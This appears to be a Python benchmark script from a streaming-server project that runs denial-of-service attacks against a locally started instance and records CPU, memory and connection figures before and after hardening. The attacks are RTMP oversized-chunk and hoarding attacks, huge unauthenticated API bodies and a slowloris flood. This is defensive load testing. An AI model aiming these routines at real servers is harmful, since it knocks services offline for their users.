"""The attacks of issue 13 against a real ``headwater serve``, measured from outside: the
server's CPU seconds and RSS while each attack runs and after it ends, how long the attacker
kept its connections, and whether the API and a new publisher still got through.

Run it on a tree's code (``--tree DIR``, e.g. an export of ``main``) to get the "before"
figures, and without it for the current tree::

    git archive main | tar -x -C /tmp/hw-main
    python -m bench.hostile --tree /tmp/hw-main          # before
    python -m bench.hostile                              # after
    python -m bench.hostile --attacks slow api --seconds 10

Attacks (``--attacks``): ``slow`` (Set Chunk Size 0x7fffffff, a 16 MiB message announced,
1 KiB every 5 ms), ``hoard`` (40 connections each sending most of a 16 MiB message and
stalling), ``api`` (10 concurrent unauthenticated 50 MiB PUTs to the config API), ``flood``
(1,100 HTTP connections from one address sending a header byte a second, under a 1,024
open-files limit), ``hoard1000`` (1,000 connections from four addresses, 1 MiB each: the
defaults keep this under 512 MB), ``api_post`` (10 concurrent 50 MiB POSTs to the
validate-only config API, which needs no credentials). The default runs the first four.
By hand, not in CI; the figures go to ``docs/security.md``.
"""

from __future__ import annotations

import argparse
import os
import resource
import struct
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import anyio
import psutil

from bench.harness.server import ServerProcess

TEMPLATE = 'name = "live"\nprefixes = ["live"]\ninputs = [{ url = "publish://" }]'
SECTIONS = '[edit_auth]\nlogin = "admin"\npassword = "secret"\n'
ATTACKS = ("slow", "hoard", "api", "flood", "hoard1000", "api_post")
MiB = 1 << 20


@dataclass
class Result:
    """One attack's figures."""

    attack: str
    cpu: float = 0.0
    rss_before: int = 0
    rss_peak: int = 0
    rss_after: int = 0
    held: list[float | None] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)

    def line(self) -> str:
        """One row of the report."""
        closed = [h for h in self.held if h is not None]
        held = (
            f"closed {len(closed)}/{len(self.held)} after {max(closed):.1f}s max"
            if closed
            else f"0/{len(self.held)} closed"
        )
        return (
            f"{self.attack:<9} cpu {self.cpu:6.1f}s  rss {self.rss_before / MiB:5.0f} -> peak "
            f"{self.rss_peak / MiB:5.0f} -> after {self.rss_after / MiB:5.0f} MiB  {held}  "
            + "; ".join(self.notes)
        )


class Watch:
    """The server's CPU and RSS peak over a window (sampled every 0.1 s in a task)."""

    def __init__(self, process: psutil.Process) -> None:
        self.process = process
        self.peak = 0
        self.cpu0 = self._cpu()

    def _cpu(self) -> float:
        t = self.process.cpu_times()
        return t.user + t.system

    async def run(self) -> None:
        """Sample RSS until cancelled."""
        while True:
            self.peak = max(self.peak, self.process.memory_info().rss)
            await anyio.sleep(0.1)

    def cpu(self) -> float:
        """CPU seconds since the window opened."""
        return self._cpu() - self.cpu0


async def rtmp_handshaken(port: int, local_host: str | None = None):
    """A connection to the RTMP port past the handshake (from ``local_host`` if given)."""
    sock = await anyio.connect_tcp("127.0.0.1", port, local_host=local_host)
    await sock.send(b"\x03" + bytes(1536))
    got = b""
    while len(got) < 3073:
        got += await sock.receive()
    await sock.send(bytes(1536))
    return sock


def huge_header() -> bytes:
    """Set Chunk Size 0x7fffffff, then a type-0 header announcing a 16 MiB video message."""
    size = b"\x02" + bytes(3) + (4).to_bytes(3, "big") + b"\x01" + bytes(4)
    size += struct.pack(">I", 0x7FFFFFFF)
    return size + b"\x04\0\0\0" + (0xFFFFFF).to_bytes(3, "big") + b"\x09\x01\0\0\0"


def publish_commands(app: str, name: str) -> bytes:
    """connect(app) + createStream + publish(name) in one write, after Set Chunk Size 64 KiB."""
    from headwater_rtmp.wire import messages as m
    from headwater_rtmp.wire.chunk_writer import ChunkWriter
    from headwater_rtmp.wire.commands import encode_command

    w = ChunkWriter()
    connect = encode_command("connect", 1, {"app": app, "tcUrl": f"rtmp://127.0.0.1/{app}"})
    return (
        w.set_chunk_size(65536)
        + w.write(3, m.COMMAND_AMF0, 0, 0, connect)
        + w.write(3, m.COMMAND_AMF0, 0, 0, encode_command("createStream", 2, None))
        + w.write(8, m.COMMAND_AMF0, 1, 0, encode_command("publish", 3, None, name, "live"))
    )


async def until_closed(sock, seconds: float) -> float | None:
    """Seconds until the server closed ``sock``, or None when it did not within ``seconds``."""
    start = time.monotonic()
    try:
        with anyio.fail_after(seconds):
            while await sock.receive():
                pass
    except TimeoutError:
        return None
    except Exception:
        pass
    return time.monotonic() - start


async def slow(server: ServerProcess, seconds: float, result: Result) -> None:
    """One connection: a 16 MiB message announced, then 1 KiB every 5 ms."""
    sock = await rtmp_handshaken(server.port("rtmp"))
    await sock.send(huge_header())
    start = time.monotonic()
    sent = 0
    held: float | None = None
    try:
        while time.monotonic() - start < seconds:
            await sock.send(bytes(1024))
            sent += 1024
            await anyio.sleep(0.005)
    except Exception:
        held = time.monotonic() - start
    result.held.append(held)
    result.notes.append(f"{sent / MiB:.1f} MiB sent")
    await sock.aclose()


async def hoard(server: ServerProcess, seconds: float, result: Result) -> None:
    """40 connections, each sending 16 MiB minus 64 KiB of one message, then stalling."""
    await _hoarders(server, seconds, result, 40, 255)


async def hoard1000(server: ServerProcess, seconds: float, result: Result) -> None:
    """1,000 connections, each sending 1 MiB of a 16 MiB message, then stalling (the
    defaults are sized to keep this under 512 MB)."""
    await _hoarders(server, seconds, result, 1000, 16, addresses=4)


async def _hoarders(
    server: ServerProcess,
    seconds: float,
    result: Result,
    count: int,
    blocks: int,
    addresses: int = 1,
) -> None:
    socks = []
    limit = anyio.Semaphore(50)  # connect and fill at most 50 at a time

    async def one(i: int) -> None:
        try:
            async with limit:
                sock = await rtmp_handshaken(server.port("rtmp"), f"127.0.0.{1 + i % addresses}")
                socks.append(sock)
                await sock.send(huge_header())
                block = bytes(64 << 10)
                for _ in range(blocks):
                    await sock.send(block)
        except Exception:
            pass

    async with anyio.create_task_group() as tg:
        for i in range(count):
            tg.start_soon(one, i)
    results: list[float | None] = []

    async def wait(sock) -> None:
        results.append(await until_closed(sock, seconds))

    async with anyio.create_task_group() as tg:
        for sock in socks:
            tg.start_soon(wait, sock)
    result.held.extend(results)
    for sock in socks:
        await sock.aclose()


async def api(server: ServerProcess, seconds: float, result: Result) -> None:
    """10 concurrent unauthenticated PUTs of 50 MiB to the config API."""
    await _big_bodies(server, seconds, result, "PUT")


async def api_post(server: ServerProcess, seconds: float, result: Result) -> None:
    """10 concurrent 50 MiB POSTs to the validate-only config API (open to anyone)."""
    await _big_bodies(server, seconds, result, "POST")


async def _big_bodies(server: ServerProcess, seconds: float, result: Result, method: str) -> None:
    statuses: list[str] = []

    async def one() -> None:
        sock = await anyio.connect_tcp("127.0.0.1", server.port("http"))
        size = 50 * MiB
        head = (
            f"{method} /streamer/api/v3/config HTTP/1.1\r\nHost: x\r\n"
            f"Content-Type: application/json\r\nContent-Length: {size}\r\n\r\n"
        )
        start = time.monotonic()
        answer = b""

        async def push() -> None:
            try:
                await sock.send(head.encode())
                block = b"x" * (1 << 20)
                for _ in range(50):
                    await sock.send(block)
            except Exception:
                pass

        failure = "no answer"
        async with anyio.create_task_group() as tg:
            tg.start_soon(push)
            try:
                with anyio.fail_after(seconds):
                    while not answer:
                        answer = await sock.receive()
            except Exception as exc:
                failure = f"{type(exc).__name__} (closed before the answer was read)"
            tg.cancel_scope.cancel()
        took = time.monotonic() - start
        result.held.append(took if answer or failure != "no answer" else None)
        statuses.append(answer[:12].decode(errors="replace") or failure)
        await sock.aclose()

    async with anyio.create_task_group() as tg:
        for _ in range(10):
            tg.start_soon(one)
    result.notes.append("answers: " + ", ".join(sorted(set(statuses))))


async def flood(server: ServerProcess, seconds: float, result: Result) -> None:
    """1,100 slowloris HTTP connections, then: does the API answer, does a publisher get in?"""
    socks = []
    failed = 0
    for _ in range(1100):
        try:  # from one attacker address (the API and RTMP checks come from 127.0.0.1)
            socks.append(
                await anyio.connect_tcp("127.0.0.1", server.port("http"), local_host="127.0.0.2")
            )
        except OSError:
            failed += 1
    result.notes.append(f"{len(socks)} connected, {failed} failed")

    async def trickle(sock) -> None:
        try:
            await sock.send(b"GET / HTTP/1.1\r\n")
            while True:
                await sock.send(b"X")
                await anyio.sleep(1)
        except Exception:
            pass

    async with anyio.create_task_group() as tg:
        for sock in socks:
            tg.start_soon(trickle, sock)
        await anyio.sleep(2)
        result.notes.append("API during flood: " + await _api_status(server))
        result.notes.append("RTMP handshake during flood: " + await _rtmp_status(server))
        waited = 0.0
        while waited < seconds and server.process is not None:
            await anyio.sleep(1)
            waited += 1
            if len(server.process.net_connections("tcp")) < 100:
                break
        result.held.append(waited if waited < seconds else None)
        result.notes.append("API after: " + await _api_status(server))
        tg.cancel_scope.cancel()
    for sock in socks:
        await sock.aclose()


async def _api_status(server: ServerProcess) -> str:
    url = f"http://127.0.0.1:{server.port('http')}/streamer/api/v3/monitoring/liveness"

    def get() -> str:
        try:
            with urllib.request.urlopen(url, timeout=3) as r:
                return str(r.status)
        except urllib.error.HTTPError as exc:
            return str(exc.code)
        except Exception as exc:
            return type(exc).__name__

    return await anyio.to_thread.run_sync(get)


async def _rtmp_status(server: ServerProcess) -> str:
    try:
        with anyio.fail_after(3):
            sock = await rtmp_handshaken(server.port("rtmp"))
            await sock.aclose()
            return "ok"
    except Exception as exc:
        return type(exc).__name__ or "failed"


RUN: dict[str, Callable] = {
    "slow": slow,
    "hoard": hoard,
    "hoard1000": hoard1000,
    "api": api,
    "api_post": api_post,
    "flood": flood,
}


def limit_files(limit: int) -> Callable[[], None]:
    def apply() -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))

    return apply


async def measure(attack: str, seconds: float) -> Result:
    """Start a server, run one attack against it, and measure."""
    result = Result(attack)
    server = ServerProcess(TEMPLATE, ["rtmp", "http"], SECTIONS, log_level="info")
    if attack == "flood":  # reproduce the 1,024 open-files limit of the report
        original = subprocess.Popen

        def popen(*a, **kw):
            kw.setdefault("preexec_fn", limit_files(1024))
            return original(*a, **kw)

        subprocess.Popen = popen  # type: ignore[misc]
        try:
            server.start()
        finally:
            subprocess.Popen = original  # type: ignore[misc]
    else:
        server.start()
    try:
        assert server.process is not None
        await anyio.sleep(1)
        result.rss_before = server.rss()
        watch = Watch(server.process)
        async with anyio.create_task_group() as tg:
            tg.start_soon(watch.run)
            await RUN[attack](server, seconds, result)
            result.cpu = watch.cpu()
            await anyio.sleep(3)  # what stays once the attackers are gone
            result.rss_after = server.rss()
            tg.cancel_scope.cancel()
        result.rss_peak = max(watch.peak, result.rss_after)
        closes = [line for line in server.log().splitlines() if " closed: " in line]
        if closes:
            result.notes.append(f"{len(closes)} close lines, e.g. {closes[0][24:150]!r}")
    finally:
        server.stop()
        server._tmp.cleanup()
    return result


def main(argv: list[str] | None = None) -> int:
    """The command line (see the module docstring)."""
    parser = argparse.ArgumentParser(prog="python -m bench.hostile", description=__doc__)
    parser.add_argument("--attacks", nargs="+", choices=ATTACKS, default=list(ATTACKS[:4]))
    parser.add_argument("--seconds", type=float, default=25.0, help="longest an attack runs")
    parser.add_argument("--tree", help="run the server from this tree's sources (before)")
    args = parser.parse_args(argv)
    if args.tree:
        root = Path(args.tree).resolve()
        paths = [root / "core" / "src", *sorted((root / "plugins").glob("*/src"))]
        os.environ["PYTHONPATH"] = os.pathsep.join(str(p) for p in paths)
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # the flood needs 1,100 sockets
    load = os.getloadavg()
    print(f"load average {load[0]:.2f} {load[1]:.2f} {load[2]:.2f} on {os.cpu_count()} CPUs")
    print(f"server code: {args.tree or 'this tree'}")
    for attack in args.attacks:
        result = anyio.run(measure, attack, args.seconds)
        print(result.line(), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
